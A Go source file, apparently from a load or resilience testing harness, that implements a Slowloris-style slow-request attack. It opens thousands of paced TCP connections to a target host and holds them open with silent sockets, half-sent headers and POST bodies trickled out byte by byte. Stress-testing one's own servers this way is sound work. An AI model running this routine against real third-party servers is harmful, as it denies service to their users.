package attacks

import (
	"context"
	"fmt"
	"strings"
	"time"
)

// The sizes of slow-requests.
const (
	slowOnes   = 4000
	slowDials  = 600             // a second
	slowTrick  = 2 * time.Second // between two bytes
	bytesWorth = 1000            // trickles a connection at most
)

func slowRequests(ctx context.Context, w *World) error {
	from := sources()
	var t tally
	early, cancel := part(ctx, 0.9)
	defer cancel()
	paced(early, w.n(slowOnes), slowDials, slowOnes, func(ctx context.Context, i int) {
		at := from[i%len(from)]
		if i < slowOnes/4 {
			at = loner()
		}
		c, err := at.DialContext(ctx, "tcp", w.host())
		if err != nil {
			t.add("not connected")
			return
		}
		defer c.Close()
		defer context.AfterFunc(ctx, func() { _ = c.Close() })()
		switch i % 4 {
		case 0: // nothing at all
			t.add("silent")
		case 1: // one request, and then kept alive
			fmt.Fprintf(c, "GET /static/app.css HTTP/1.1\r\nHost: %s\r\n\r\n", w.host())
			t.add("kept alive")
		case 2: // half a header
			fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nX-", w.host())
			t.add("half sent")
		case 3: // a body that never comes
			fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n", w.host())
			t.add("without their body")
		}
		for range bytesWorth {
			if w.Scale < 1 || !sleep(ctx, slowTrick) {
				return
			}
			if i%4 < 2 {
				continue
			}
			if _, err := c.Write([]byte("a")); err != nil {
				return
			}
		}
	})
	w.note("connections: %s", &t)
	return nil
}

// host is the host and port of the pages.
func (w *World) host() string { return strings.TrimPrefix(w.Pages, "http://") }
